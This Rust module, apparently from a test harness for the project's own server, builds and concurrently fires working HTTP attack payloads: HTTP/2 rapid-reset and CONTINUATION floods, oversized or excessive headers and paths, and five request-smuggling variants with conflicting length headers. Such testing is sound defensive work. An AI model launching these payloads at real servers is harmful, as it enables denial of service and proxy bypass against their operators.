//! Attacks that lie in the head of a request, or in what stands where one should.

use std::rc::Rc;

use crate::wire::Field;

const MIB: usize = 1024 * 1024;

/// The beginning of a connection of HTTP/2, with empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Streams that are opened and reset at once.
pub(crate) async fn http2_resets(field: Rc<Field>) {
    // `:method: GET`, `:scheme: http`, `:path: /` of the static table.
    let streams = (0..1_000).flat_map(|n| {
        let stream = 2 * n + 1;
        [frame(1, 5, stream, &[0x82, 0x86, 0x84]), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    });
    repeat(field, PREFACE.iter().copied().chain(streams).collect()).await;
}

/// A head that never ends.
pub(crate) async fn http2_continuations(field: Rc<Field>) {
    let more = frame(9, 0, 1, &[0x40; 16_000]).repeat(64);
    repeat(field, [PREFACE, &frame(1, 1, 1, &[0x82]), &more].concat()).await;
}

/// One header.
pub(crate) async fn huge(field: Rc<Field>) {
    repeat(field, format!("GET / HTTP/1.1\r\nx: {}\r\n\r\n", "y".repeat(MIB)).into()).await;
}

/// Very many headers.
pub(crate) async fn many(field: Rc<Field>) {
    repeat(field, format!("GET / HTTP/1.1\r\n{}\r\n", "x: y\r\n".repeat(10_000)).into()).await;
}

/// A long path.
pub(crate) async fn long_target(field: Rc<Field>) {
    repeat(field, format!("GET /{} HTTP/1.1\r\n\r\n", "y".repeat(MIB)).into()).await;
}

/// Bodies whose length is said twice, with a request behind that a proxy would not have seen.
pub(crate) async fn smuggled(field: Rc<Field>) {
    const LENGTHS: [&str; 5] = [
        "content-length: 4\r\ntransfer-encoding: chunked\r\n",
        "transfer-encoding: chunked\r\ncontent-length: 4\r\n",
        "content-length: 4\r\ncontent-length: 40\r\n",
        "transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n",
        "content-length: 4\r\ntransfer-encoding:\x0bchunked\r\n",
    ];
    let shapes = LENGTHS.map(|lengths| {
        format!(
            "POST /api/v1/log/verify HTTP/1.1\r\nhost: localhost\r\n{lengths}\r\n0\r\n\r\nGET /readyz \
             HTTP/1.1\r\nhost: localhost\r\n\r\n"
        )
        .into_bytes()
    });
    let [first, second, third, fourth, fifth] =
        shapes.map(|shape| repeat_by(field.clone(), shape, 4));
    tokio::join!(first, second, third, fourth, fifth);
}

async fn repeat(field: Rc<Field>, request: Vec<u8>) {
    repeat_by(field, request, 32).await;
}

async fn repeat_by(field: Rc<Field>, request: Vec<u8>, attackers: usize) {
    let request = Rc::new(request);
    let act = move |field: Rc<Field>| {
        let request = request.clone();
        async move { field.shoot(&request).await }
    };
    field.crowd(attackers, act).await;
}
